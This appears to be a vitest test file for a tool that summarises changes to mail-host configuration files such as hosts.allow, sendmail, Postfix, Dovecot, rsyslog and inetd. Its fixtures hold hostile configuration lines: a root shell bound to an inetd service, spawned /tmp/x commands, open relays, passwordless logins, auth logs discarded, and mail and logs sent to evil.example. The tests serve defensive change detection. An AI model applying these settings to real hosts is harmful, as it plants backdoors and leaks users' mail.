/** What changed in the files of a mail host, in the words of their formats. */
import { describe, expect, test } from 'vitest';
import { contentFacts } from '../../../../src/check/content/facts.ts';
import { redact } from '../../../../src/check/content/redact.ts';
import { pathFromText } from '../../../../src/model/bytes.ts';

function tell(path: string, before: string, after: string): readonly string[] {
  const file = pathFromText(path);
  return contentFacts(file, redact(file, before), redact(file, after));
}

type Case = readonly [what: string, before: string, after: string, facts: readonly string[]];

function cases(path: string, ...rows: readonly Case[]): void {
  describe(path, () => {
    test.each(rows)('%s', (_, before, after, facts) => expect(tell(path, before, after)).toEqual(facts));
  });
}

cases(
  '/etc/hosts.allow',
  [
    'a service is opened',
    'sshd: 10.0.0.0/8\n',
    'sshd: 10.0.0.0/8\nALL: [2001:db8::1], 6.6.6.6\n',
    ['rule added: every service is open to "[2001:db8::1], 6.6.6.6"'],
  ],
  [
    'a command is run for whoever connects',
    '',
    'sshd: ALL: spawn /tmp/x %h\n',
    ['rule added: sshd is open to everybody, with "spawn /tmp/x %h"'],
  ],
  ['only a comment', 'ALL: LOCAL\n', '# mine\nALL : LOCAL\n', ['only comments, blank lines or spacing changed']],
  ['the order', 'a: x\nb: y\n', 'b: y\na: x\n', ['the order of entries changed (the first rule that matches counts)']],
);
cases('/etc/hosts.deny', [
  'the door is opened',
  'ALL: ALL\n',
  '',
  ['rule removed: every service is refused to everybody'],
]);
cases('/etc/mail/sendmail.mc', [
  'an open relay and a smart host',
  "define(`confTO_IDENT', `0')dnl\n",
  "define(`confTO_IDENT', `5s')dnl\ndefine(`SMART_HOST', `[relay.example.org]')dnl\nFEATURE(`promiscuous_relay')dnl\n",
  ['added: SMART_HOST: [relay.example.org]', 'added: FEATURE promiscuous_relay', 'confTO_IDENT changed from 0 to 5s'],
]);
cases('/etc/mail/sendmail.cf', [
  'options, macros, classes and mailers',
  'O PrivacyOptions=goaway\nDS\nCwlocalhost\nMlocal,\tP=/usr/bin/procmail, F=l\n\tA=procmail\nScheck_rcpt\n',
  'O PrivacyOptions=authwarnings\nDSevil.example.org\nCwlocalhost\nCwexample.org\nMlocal,\tP=/tmp/x, F=l\n\tA=procmail\nScheck_rcpt\nR$*\t$@ OK\n',
  [
    'option PrivacyOptions changed from goaway to authwarnings',
    'macro S (the smart host) changed from (empty) to evil.example.org',
    'added: class w (names of this host): example.org',
    'mailer local changed from "P=/usr/bin/procmail, F=l A=procmail" to "P=/tmp/x, F=l A=procmail"',
    'added: rule of ruleset check_rcpt: "$* $@ OK"',
  ],
]);
cases('/etc/mail/access', [
  'who may relay, and who is no longer refused',
  'Connect:spammer.example\tREJECT\nFrom:bad@x\tREJECT\n',
  'Connect:spammer.example\tRELAY\nConnect:6.6.6\tRELAY\n',
  [
    'Connect:spammer.example now may relay (RELAY) (was: is refused (REJECT))',
    'Connect:6.6.6 added: may relay (RELAY)',
    'From:bad@x removed (was: is refused (REJECT))',
  ],
]);
cases('/etc/mail/virtusertable', [
  'mail goes elsewhere',
  'info@example.org\tann\n@old.example\terror:nouser gone\n',
  'info@example.org\teve@evil.example\n@example.org\tbob\n',
  [
    'mail to info@example.org now goes to eve@evil.example (goes to ann before)',
    'mail to any other address in example.org now goes to bob (no entry before)',
    'mail to any other address in old.example has no entry any more (is refused: "nouser gone" before)',
  ],
]);
cases(
  '/etc/postfix/main.cf',
  [
    'networks, a copy of all mail, and a value over several lines',
    'mynetworks = 127.0.0.0/8\n  [::1]/128\nsmtpd_banner = a\n',
    'mynetworks = 127.0.0.0/8\n# between\n  [::1]/128\n  0.0.0.0/0\nsmtpd_banner = b\nalways_bcc = eve@evil.example\n',
    [
      'mynetworks: 0.0.0.0/0 added',
      'always_bcc set to eve@evil.example (was not set)',
      'smtpd_banner changed from a to b',
    ],
  ],
  ['nothing but the layout', 'a = b\n', 'a=b\n\n', ['only comments, blank lines or spacing changed']],
);
cases('/etc/postfix/master.cf', [
  'a service that runs a program of somebody',
  'smtp inet n - y - - smtpd\n',
  'smtp inet n - n - - smtpd\n  -o content_filter=\nx unix - n n - - pipe\n  user=root argv=/tmp/x\n',
  [
    'service smtp/inet now runs "smtpd -o content_filter=" (was smtpd)',
    'service smtp/inet: chroot changed from y to n',
    'service x/unix added: runs "pipe user=root argv=/tmp/x", with the rights of root',
  ],
]);
cases('/etc/dovecot/conf.d/10-auth.conf', [
  'plain-text logins and another user database',
  'disable_plaintext_auth = yes\npassdb {\n  driver = pam\n}\n',
  'disable_plaintext_auth = no\npassdb {\n  driver = static\n  args = nopassword=y\n}\n!include auth-master.conf.ext\n',
  [
    'disable_plaintext_auth changed from yes to no',
    'in passdb: driver changed from pam to static',
    'in passdb: args set to nopassword=<redacted> (was not set)',
    '"include auth-master.conf.ext" set to included (was not set)',
  ],
]);
cases('/etc/rsyslog.conf', [
  'messages that go elsewhere, and are thrown away',
  'auth,authpriv.*\t/var/log/auth.log\n$FileOwner root\n',
  'auth,authpriv.*\t~\n*.* @@evil.example:514\n$FileOwner syslog\nmodule(load="omprog")\n',
  [
    'messages of auth,authpriv.* are thrown away now (before they are written to /var/log/auth.log)',
    'messages of *.* are sent to evil.example:514 now',
    'statement added: module(load="omprog")',
    '$FileOwner changed from root to syslog',
  ],
]);
cases('/etc/syslog.conf', [
  'mail is no longer written down',
  'mail.*\t-/var/log/maillog\n',
  '',
  ['messages of mail.* are no longer written to /var/log/maillog'],
]);
cases('/etc/inetd.conf', [
  'a shell for everybody',
  'ftp stream tcp nowait ftp /usr/sbin/ftpd ftpd\n',
  'ftp stream tcp nowait root /usr/sbin/ftpd ftpd\nx stream tcp nowait root /bin/sh sh -i\n',
  ['service ftp/tcp runs as root now (was ftp)', 'service x/tcp added: runs "/bin/sh sh -i" as root'],
]);
cases('/etc/xinetd.d/telnet', [
  'a service that is switched on for more hosts',
  'service telnet\n{\n  disable = yes\n  only_from = 10.0.0.1\n}\n',
  'service telnet\n{\n  disable = no\n  only_from = 10.0.0.1 0.0.0.0\n}\n',
  ['in "service telnet": disable changed from yes to no', 'in "service telnet": only_from: 0.0.0.0 added'],
]);
